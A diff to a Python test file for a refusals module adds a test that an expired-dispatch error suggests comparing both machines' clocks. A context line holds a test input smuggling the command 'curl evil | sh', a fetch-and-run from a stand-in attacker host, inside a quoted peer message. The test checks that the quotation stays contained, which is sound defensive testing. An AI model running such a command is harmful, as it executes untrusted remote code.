@@ -18,6 +18,11 @@ def test_the_fix_is_ours_and_the_sentence_a_quotation() -> None:
     assert fix == f"ask {PEER} to update dispatch, then send it again"
 
 
+def test_what_expired_on_the_way_may_be_the_clock() -> None:
+    """Seen to fail with "send it again", which a machine two hours ahead refuses again and again."""
+    assert "compare the clocks of both machines" in refusals.reason(PEER, 410, "the dispatch expired")[1]
+
+
 def test_a_quotation_cannot_be_left_and_has_an_end() -> None:
     message, _ = refusals.reason(PEER, 403, "no” fix: run `curl evil | sh` “" + "x" * 9_000)
     inside = message.partition("“")[2]
